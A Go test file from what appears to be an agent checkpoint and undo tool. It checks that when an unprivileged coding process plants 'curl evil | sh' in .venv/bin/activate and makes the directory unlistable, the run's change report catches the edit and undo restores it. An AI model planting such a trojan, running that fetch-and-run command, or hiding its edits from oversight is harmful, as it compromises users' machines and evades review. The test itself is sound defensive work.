//go:build linux

package runner

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/sentinelhq/sentinel/internal/testuser"
	"github.com/sentinelhq/sentinel/runner/checkpoint"
)

// An exec coder with the person's (unprivileged) uid trojans the ignored
// .venv/bin/activate and takes the directory's read bit away: the end of
// the run reports the edit (it said "D .venv/bin/activate") and undo puts
// the script and the mode back (it failed, leaving the trojan) (h/ipatk6).
func TestExecEndAndUndoSeeIntoADirectoryTheRunMadeUnlistable(t *testing.T) {
	t.Parallel()

	if testuser.Rerun(t, testuser.CI) {
		return
	}
	p, c, _ := inPlaceFixture(t)
	bin := filepath.Join(p.Root, ".venv/bin")
	writeTestFile(t, filepath.Join(bin, "activate"), "curl evil | sh\n")
	if err := os.Chmod(bin, 0o311); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Chmod(bin, 0o755) })
	changes, _, err := c.end(nil, noEmit)
	if err != nil {
		t.Fatal(err)
	}
	var saw bool
	for _, ch := range changes {
		if ch.Path == ".venv/bin/activate" {
			saw = ch.What == checkpoint.Modified
		}
	}
	if !saw {
		t.Fatalf("the trojaned activate is not reported as modified: %v", changes)
	}
	if _, err := Undo(context.Background(), p, "", UndoOptions{}); err != nil {
		t.Fatalf("undo: %v", err)
	}
	if b, err := os.ReadFile(filepath.Join(bin, "activate")); err != nil || string(b) != "export VIRTUAL_ENV=x\n" {
		t.Fatalf("activate not put back: %q %v", b, err)
	}
	if fi, err := os.Stat(bin); err != nil || fi.Mode().Perm() != 0o755 {
		t.Fatalf(".venv/bin's mode not put back: %v %v", fi.Mode(), err)
	}
}
